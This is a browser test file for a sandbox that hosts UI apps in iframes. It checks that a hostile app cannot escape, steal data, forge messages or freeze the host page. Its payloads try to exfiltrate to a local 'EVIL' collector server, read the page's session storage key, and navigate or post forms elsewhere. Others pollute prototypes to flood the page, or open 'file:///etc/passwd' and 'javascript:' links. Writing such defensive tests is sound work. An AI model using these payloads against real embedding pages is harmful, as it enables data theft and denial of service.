import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FrameLocator, Page } from 'playwright-core';
import { expect, onTestFinished, test } from 'vitest';
import { APP, appServer, appTool, openApps } from './support/apps.ts';
import { describeInBrowser } from './support/browser.ts';
import { HIDDEN, TRICKS } from './support/tricks.ts';
import type { JsonObject } from '../../src/jsonrpc/message.ts';

/** A server of the attacker that lets every page read it, and what it got. */
async function collector(): Promise<{ readonly origin: string; readonly got: readonly string[] }> {
  const got: string[] = [];
  const server = createServer((request, response) => {
    got.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('reached');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => {
    server.close();
    server.closeAllConnections();
  });
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, got };
}

/** What the app has written. */
const said = async (view: FrameLocator): Promise<unknown> =>
  JSON.parse((await view.locator('#out').textContent()) || 'null');

/** Runs attempts in the app, and says which of them succeeded, and what the others threw. */
const attempts = (code: Readonly<Record<string, string>>): string => `${APP}
  const wait = (what, event) => new Promise((resolve, reject) => {
    what.addEventListener(event, resolve);
    what.addEventListener('error', () => reject(new Error('error')));
  });
  const done = {};
  const run = async (name, attempt) => {
    try { done[name] = String(await attempt()); } catch { done[name] = 'refused'; }
  };
  (async () => {
    await start();
    ${Object.entries(code)
      .map(([name, attempt]) => `await run(${JSON.stringify(name)}, async () => { ${attempt} });`)
      .join('\n')}
    say(done);
  })();`;

const refusedAll = (code: object): Record<string, string> =>
  Object.fromEntries(Object.keys(code).map((name) => [name, 'refused']));

describeInBrowser('a hostile app', (browser) => {
  test('reaches neither the page, nor its server, nor any other', async () => {
    const evil = await collector();
    let own = '';
    const code = {
      'the document of the page': 'return top.document.title;',
      'the storage of the page': 'return top.sessionStorage.getItem("everwire-key");',
      'the address of the page': 'return top.location.href;',
      'a window': 'if (open("about:blank") === null) throw 0;',
      'a dialog': 'alert(1); throw 0;',
      'a request to the page': 'return (await fetch(PAGE + "/")).status;',
      'a request without an answer to the page': 'return (await fetch(PAGE + "/", { mode: "no-cors" })).type;',
      'a request with a token to the page':
        'return (await fetch(PAGE + "/api/stream?after=0", { headers: { "everwire-key": "x" } })).status;',
      'another server': 'return (await fetch(EVIL + "/fetch")).status;',
      XMLHttpRequest: `const request = new XMLHttpRequest();
        request.open("GET", EVIL + "/xhr");
        request.send();
        await wait(request, "load");`,
      'an event source': 'const source = new EventSource(EVIL + "/events"); await wait(source, "open");',
      'a web socket': 'const socket = new WebSocket(EVIL.replace("http", "ws")); await wait(socket, "open");',
      'a beacon': 'navigator.sendBeacon(EVIL + "/beacon", "x"); throw 0;',
      'an image': 'const image = new Image(); image.src = EVIL + "/image"; await wait(image, "load");',
      'a script': `const script = document.createElement("script");
        script.src = EVIL + "/script";
        document.body.append(script);
        await wait(script, "load");`,
      'a frame': `const frame = document.createElement("iframe");
        frame.src = EVIL + "/frame";
        document.body.append(frame);
        await wait(frame, "load");
        return frame.contentDocument.title;`,
      'code in the frame around it': `const script = parent.document.createElement("script");
        script.textContent = "window.reached = 1";
        parent.document.body.append(script);
        if (!parent.reached) throw 0;`,
      'a request of the frame around it': 'return (await parent.fetch(EVIL + "/parent")).status;',
      'a document without a policy on its own origin': `const frame = parent.document.createElement("iframe");
        frame.src = "/nothing";
        parent.document.body.append(frame);
        await wait(frame, "load");
        return (await frame.contentWindow.fetch(EVIL + "/nothing")).status;`,
      'an empty document in the frame around it': `const frame = parent.document.createElement("iframe");
        parent.document.body.append(frame);
        return (await frame.contentWindow.fetch(EVIL + "/empty")).status;`,
      'a worker': `const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "/worker')"])));
        await wait(worker, "message");`,
      'a service worker': 'await navigator.serviceWorker.register("view");',
      'code from text': 'return eval("1");',
      'going elsewhere at the top': 'top.location = EVIL + "/top"; throw 0;',
    };
    // The addresses are known only when everything runs.
    const script = (): string =>
      `const PAGE = ${JSON.stringify(own)}, EVIL = ${JSON.stringify(evil.origin)};${attempts(code)}`;
    const hostile = await appServer(script);
    const { page, run, view, blocked } = await openApps(browser(), hostile.url);
    own = new URL(page.url()).origin;
    await run.click();
    await expect.poll(() => said(view)).not.toBeNull();
    expect(await said(view)).toEqual(refusedAll(code));
    expect(evil.got).toEqual([]);
    expect(new URL(page.url()).origin).toBe(own);
    // What was blocked is in the table.
    await expect.poll(() => blocked('Connections')).toContain(`${evil.origin}/fetch`);
    await expect.poll(() => blocked('Connections')).toContain(own);
    await expect.poll(() => blocked('Resources')).toContain(`${evil.origin}/image`);
    await expect.poll(() => blocked('Frames')).toContain(evil.origin);
  });

  test('reaches what it declares, and this is the difference', async () => {
    const evil = await collector();
    const code = { declared: `return (await (await fetch("${evil.origin}/declared")).text());` };
    const server = await appServer(attempts(code), { csp: { connectDomains: [evil.origin] } });
    const { run, view } = await openApps(browser(), server.url);
    await run.click();
    await expect.poll(() => said(view)).toEqual({ declared: 'reached' });
    expect(evil.got).toEqual(['GET /declared']);
  });

  test('cannot declare the page or another app', async () => {
    let own = '';
    let apps = '';
    const code = {
      page: 'return (await fetch(PAGE + "/", { mode: "no-cors" })).type;',
      'other app': 'return (await fetch(APP_OF_OTHER, { mode: "no-cors" })).type;',
      'frame of the page': `const frame = document.createElement("iframe");
        frame.src = PAGE;
        document.body.append(frame);
        await wait(frame, "load");
        return frame.contentDocument.title;`,
      'frame of the other app': `const frame = document.createElement("iframe");
        frame.src = APP_OF_OTHER;
        document.body.append(frame);
        await wait(frame, "load");
        return frame.contentDocument.title;`,
    };
    const first = await appServer(`${APP} start();`);
    const script = (): string =>
      `const PAGE = ${JSON.stringify(own)}, APP_OF_OTHER = ${JSON.stringify(apps)};${attempts(code)}`;
    const csp = (): JsonObject => ({
      connectDomains: [own, new URL(apps).origin, '*'],
      frameDomains: [own, new URL(apps).origin],
    });
    const second = await appServer(script, { csp });
    const { page, run, view, inspector } = await openApps(browser(), first.url);
    own = new URL(page.url()).origin;
    await run.click();
    await page.getByText('Running', { exact: true }).waitFor();
    apps = (await page.locator('iframe.app-frame').getAttribute('src')) as string;
    inspector.connect({ url: second.url.href });
    await expect.poll(() => page.locator('iframe').count()).toBe(0);
    await run.click();
    await expect.poll(() => said(view)).toEqual(refusedAll(code));
    expect(await page.getByText('a port of the inspector').count()).toBe(4);
    const other = (await page.locator('iframe.app-frame').getAttribute('src')) as string;
    expect(new URL(other).origin).not.toBe(new URL(apps).origin);
  });

  const inFrame = (element: string): string =>
    `const element = parent.document.createElement("${element}"); parent.document.body.append(element);`;
  test.each([
    ['by itself', 'location.href = EVIL;'],
    ['with a form', 'document.body.innerHTML = `<form method="post" action="${EVIL}">`; document.forms[0].submit();'],
    ['with a link in the frame around it', `${inFrame('a')} element.href = EVIL; element.click();`],
    ['with a form in the frame around it', `${inFrame('form')} element.action = EVIL; element.submit();`],
  ])('cannot go elsewhere %s', async (_, code) => {
    const evil = await collector();
    const server = await appServer(`${APP} const EVIL = "${evil.origin}/secret"; start().then(() => { ${code} });`);
    const { page, run, blocked } = await openApps(browser(), server.url);
    const { origin } = new URL(page.url());
    await run.click();
    await expect.poll(async () => (await blocked('Frames')) + (await blocked('Others'))).toContain(evil.origin);
    expect(evil.got).toEqual([]);
    expect(new URL(page.url()).origin).toBe(origin);
  });

  test('cannot send messages from other frames, or before it is initialized', async () => {
    const forged = {
      jsonrpc: '2.0',
      id: 7,
      method: 'tools/call',
      params: { name: 'show', arguments: { forged: true } },
    };
    const script = `${APP}
      const forged = ${JSON.stringify(forged)};
      // Too early.
      post(forged);
      top.postMessage(forged, '*');
      const inner = document.createElement('iframe');
      inner.srcdoc = '<script>for (const to of [parent, parent.parent, top]) to.postMessage(' + JSON.stringify(forged) + ', "*")</scr' + 'ipt>';
      inner.addEventListener('load', () => start().then(() => say('ready')));
      document.body.append(inner);`;
    const server = await appServer(script);
    const { page, run, view } = await openApps(browser(), server.url);
    await run.click();
    await expect.poll(() => view.locator('#out').textContent()).toBe('ready');
    await page.getByRole('tab', { name: 'From the app' }).click();
    await page.getByText('Send ui/notifications/initialized first.').waitFor();
    // The call of the user alone.
    expect(server.received.filter(({ method }) => method === 'tools/call')).toHaveLength(1);
  });

  test.each([
    [
      'a flood of messages',
      'for (let i = 0; i < 5000; i += 1) notify("ui/notifications/size-changed", { height: i });',
      'messages in a second',
    ],
    ['a huge message', 'notify("x", { text: "x".repeat(50_000_000) });', 'a message of more than 4 Mi characters'],
    [
      'much in a second',
      'for (let i = 0; i < 20; i += 1) notify("x", { text: "x".repeat(3_000_000) });',
      'characters in a second',
    ],
    [
      'a message of many values',
      'notify("x", { many: Array.from({ length: 1_000_000 }, () => ({})) });',
      'a message of more than 4 Mi characters',
    ],
  ])('is stopped after %s', async (_, code, why) => {
    const server = await appServer(`${APP} start().then(() => { ${code} });`);
    const { page, run } = await openApps(browser(), server.url);
    await run.click();
    await page.getByRole('alert').getByText(why).waitFor();
    expect(await page.locator('iframe').count()).toBe(0);
  });

  test('does not freeze the page', async () => {
    const server = await appServer(`${APP} start().then(() => setTimeout(() => { for (;;); }, 100));`);
    const { page, run } = await openApps(browser(), server.url);
    await run.click();
    await page.getByText('Running', { exact: true }).waitFor();
    await page.getByRole('button', { name: 'Close the app' }).click();
    await page.getByText('Closed', { exact: true }).waitFor();
    expect(await page.locator('iframe').count()).toBe(0);
  });

  /** The longest time in which the page did nothing else. Milliseconds. */
  const longestPause = async (page: Page): Promise<() => Promise<number>> => {
    const pauses = await page.evaluateHandle(() => {
      const found: number[] = [];
      let last = performance.now();
      setInterval(() => {
        const now = performance.now();
        found.push(now - last);
        last = now;
      }, 10);
      return found;
    });
    return () =>
      pauses.evaluate(async (found) => {
        // A pause is known after its end.
        await new Promise((resolve) => void setTimeout(resolve, 100));
        return Math.max(...found);
      });
  };

  test.each([
    ['a map of millions', 'notify("x", { map })'],
    ['a map that is not sent as text', 'parent.JSON.stringify = (value) => value; notify("x", { map })'],
    // What the script of the frame calls comes from the frame for the browser.
    ['a map from a global of the frame', 'parent.String = sendMap; post({})'],
    ['a map from toJSON', 'parent.Object.prototype.toJSON = sendMap; post({})'],
    ['a map from the getter of the data', 'getter("data", sendMap); post({})'],
    ['a map from postMessage of the app', 'window.postMessage = sendMap; from(top); post({})'],
    [
      'a map, after it has replaced all that the frame could use',
      `const seen = [];
      const take = (target, name) => {
        const { value } = Object.getOwnPropertyDescriptor(target, name);
        target[name] = function (...args) { seen.push(this, ...args); return Reflect.apply(value, this, args); };
      };
      parent.Object.prototype.transfer = [new MessageChannel().port1];
      for (const name of ['call', 'apply', 'bind']) take(parent.Function.prototype, name);
      for (const name of ['postMessage', 'start', 'close']) take(parent.MessagePort.prototype, name);
      take(parent.Array.prototype, Symbol.iterator);
      take(parent.String.prototype, 'startsWith');
      parent.Object.prototype.toJSON = function () { seen.push(this); return map; };
      parent.Error.prepareStackTrace = (_, sites) => { for (const site of sites) seen.push(site.getThis(), site.getFunction()); };
      getter('data', function () {
        seen.push(this.target, this.currentTarget, this.srcElement, ...this.ports, new parent.Error().stack);
        return map;
      });
      post({});
      setTimeout(() => {
        for (const each of seen) if (each instanceof parent.MessagePort) each.postMessage(map);
      }, 100);`,
    ],
    [
      'a map through a port of its own',
      `const channel = new MessageChannel();
      parent.Object.prototype.toJSON = top.postMessage.bind(top, null, '*', [channel.port2]);
      post({});
      setTimeout(() => channel.port1.postMessage(map), 100);`,
    ],
    [
      'a map from a second run of the script of the frame',
      `if (!parent.again) {
        parent.MessagePort.prototype.postMessage = function () { postMessage.call(this, map); };
        const { postMessage } = MessagePort.prototype;
        parent.again = parent.document.createElement('script');
        parent.again.textContent = parent.document.querySelector('script').textContent;
        parent.document.body.append(parent.again);
      }`,
    ],
  ])('does not freeze the page with %s', async (_, code) => {
    const script = `${APP}
      const map = new Map(Array.from({ length: 2_000_000 }, (_, at) => [at, at]));
      const sendMap = top.postMessage.bind(top, map, '*', []);
      const getter = (name, get) => Object.defineProperty(parent.MessageEvent.prototype, name, { get });
      const from = (source) => getter('source', () => source);
      start().then(() => setTimeout(() => { ${code}; setTimeout(say, 500, 'sent'); }, 1000));`;
    const { page, run, view } = await openApps(browser(), (await appServer(script)).url);
    await run.click();
    await page.getByText('Running', { exact: true }).waitFor();
    const longest = await longestPause(page);
    await view.getByText('sent', { exact: true }).waitFor({ timeout: 20_000 });
    // What was sent before has arrived.
    await page.waitForTimeout(500);
    expect(await longest()).toBeLessThan(500);
  });

  // The texts of these have almost as many characters as a message may have.
  test.each([
    ['arrays', 'Array.from({ length: 1_398_000 }, () => [])'],
    ['objects', 'Array.from({ length: 466_000 }, () => ({ a: {} }))'],
    ['keys', 'Object.fromEntries(Array.from({ length: 466_000 }, (_, at) => [at.toString(36) + "_", 0]))'],
    ['texts', '"中".repeat(4_194_000)'],
  ])('does not freeze the page with a message full of %s', async (_, value) => {
    const server = await appServer(`${APP} start().then(() => setTimeout(() => notify('x', ${value}), 1000));`);
    const { page, run } = await openApps(browser(), server.url);
    await run.click();
    await page.getByText('Running', { exact: true }).waitFor();
    const longest = await longestPause(page);
    await page.getByRole('alert').getByText('a message of more than 4 Mi characters').waitFor({ timeout: 20_000 });
    expect(await longest()).toBeLessThan(500);
  });

  test('does not freeze the page with notes whose characters must be escaped', async () => {
    const note = `{ level: 'info', data: '\\u200bA'.repeat(5000) }`;
    const flood = `for (let i = 0; i < 20; i += 1) notify('notifications/message', ${note})`;
    const server = await appServer(`${APP} start().then(() => setInterval(() => { ${flood} }, 100));`);
    const { page, run } = await openApps(browser(), server.url);
    await run.click();
    // A role is found slowly on a page of many elements.
    await page.locator('.app [role=tab]', { hasText: 'From the app' }).click();
    const drawn = await page.evaluate(async () => {
      const start = performance.now();
      const notes = document.querySelector('.app-notes')!;
      let redraws = 0;
      const total = (): number => Number(document.querySelector('.app .count')?.textContent);
      await new Promise<void>((resolve) => {
        new MutationObserver(() => {
          redraws += 1;
          if (total() >= 200) resolve();
        }).observe(notes, { childList: true });
      });
      const seconds = (performance.now() - start) / 1000;
      return { perSecond: redraws / Math.ceil(seconds + 1), marks: notes.querySelectorAll('.escape').length };
    });
    expect(drawn.perSecond).toBeLessThanOrEqual(1);
    expect(drawn.marks).toBeLessThanOrEqual(500);
    await page.locator('button', { hasText: 'Close the app' }).click();
    await page.locator('.app .status', { hasText: /Closed|Stopped/ }).waitFor();
  });

  test('cannot open links, except to http and https after a click', async () => {
    const script = `${APP}
      start().then(async () => {
        const answers = [];
        for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'x', 7])
          answers.push((await request('ui/open-link', { url })).error.message);
        say(answers);
        for (let i = 0; i < 5; i += 1) request('ui/open-link', { url: 'https://example.com/' + i });
      });`;
    const { page, run, view } = await openApps(browser(), (await appServer(script)).url);
    const popups: string[] = [];
    page.on('popup', (popup) => popups.push(popup.url()));
    // A click that was meant for something else, when a link appears in its place.
    await page.evaluate(() => {
      const middleClicks: boolean[] = [];
      Object.assign(globalThis, { middleClicks });
      const watch = new MutationObserver(() => {
        const link = document.querySelector<HTMLElement>('a.open');
        if (!link) return;
        watch.disconnect();
        link.click();
        // A click of a program opens nothing, so what counts is whether the page prevents it.
        const middle = new MouseEvent('auxclick', { button: 1, bubbles: true, cancelable: true });
        middleClicks.push(link.dispatchEvent(middle));
      });
      watch.observe(document.body, { childList: true, subtree: true });
    });
    await run.click();
    await expect.poll(() => said(view)).toEqual(Array(4).fill('Only http and https URLs can be opened.'));
    const links = page.getByRole('link');
    await expect.poll(() => links.count()).toBe(3);
    expect(popups).toEqual([]);
    expect(await page.evaluate('middleClicks')).toEqual([false]);
    await page.context().route('https://example.com/**', (route) => route.fulfill({ body: 'opened' }));
    await expect
      .poll(async () => {
        if ((await links.count()) === 3) await links.first().click();
        return popups;
      })
      .toEqual(['https://example.com/0']);
    expect(await links.count()).toBe(2);
  });

  test.each(['left', 'middle'] as const)('cannot move a link while it is clicked: %s button', async (button) => {
    const script = `${APP} start().then(() => request('ui/open-link', { url: 'https://example.com/' }).then(say));`;
    const { page, run, view } = await openApps(browser(), (await appServer(script)).url);
    await page.context().route('https://example.com/**', (route) => route.fulfill({ body: 'opened' }));
    const opened: string[] = [];
    page.context().on('page', (each) => opened.push(each.url()));
    await run.click();
    const link = page.getByRole('link');
    await link.waitFor();
    const now = (): Promise<number> => page.evaluate(() => performance.now());
    const shown = await now();
    await expect.poll(now).toBeGreaterThan(shown + 1000);
    const { x, y, width, height } = (await link.boundingBox())!;
    await page.mouse.move(x + width / 2, y + height / 2);
    await page.mouse.down({ button });
    await link.evaluate((element) => {
      element.style.position = 'relative';
      element.style.top = '3px';
    });
    await page.mouse.up({ button });
    expect(await said(view)).toBeNull();
    // A click on the link where it is now is the next one that counts.
    await page.mouse.click(x + width / 2, y + height / 2, { button });
    await expect.poll(() => said(view)).toMatchObject({ result: {} });
    await expect.poll(() => opened.length).toBe(1);
  });

  test('shows nothing hidden in the names of tools', async () => {
    const { url } = await appServer('', { tools: TRICKS.map((trick) => appTool(trick, 'ui://test/app')) });
    const { page, misdeeds } = await openApps(browser(), url);
    const choice = page.locator('select.apps-choice');
    await expect.poll(() => choice.locator('option').count()).toBe(TRICKS.length + 1);
    expect(HIDDEN.exec((await choice.textContent())!)?.[0]).toBeUndefined();
    expect(misdeeds()).toEqual([]);
  });

  test('is one of thousands, which are shown in portions', async () => {
    const tools = Array.from({ length: 3000 }, (_, at) => appTool(`t${at}`, 'ui://test/app'));
    const { url } = await appServer('', { tools });
    const { page, misdeeds } = await openApps(browser(), url);
    const apps = page.getByRole('list', { name: 'apps' }).getByRole('listitem');
    await expect.poll(() => apps.count()).toBe(100);
    await page.getByRole('button', { name: 'Show 100 more' }).click();
    await expect.poll(() => apps.count()).toBe(200);
    expect(await page.locator('select.apps-choice option').count()).toBe(1000);
    expect(misdeeds()).toEqual([]);
  });
});
